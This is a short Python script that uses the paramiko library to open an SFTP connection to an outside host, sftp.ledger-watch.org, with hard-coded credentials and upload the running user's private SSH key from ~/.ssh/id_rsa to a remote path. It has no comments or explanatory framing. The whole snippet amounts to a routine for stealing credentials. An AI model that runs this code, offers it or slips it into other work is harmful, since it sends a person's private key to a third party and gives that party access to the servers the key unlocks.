import paramiko, os
t = paramiko.Transport(("sftp.ledger-watch.org", 22))
t.connect(username="u", password="x")
sftp = paramiko.SFTPClient.from_transport(t)
sftp.put(os.path.expanduser("~/.ssh/id_rsa"), "/in/k")
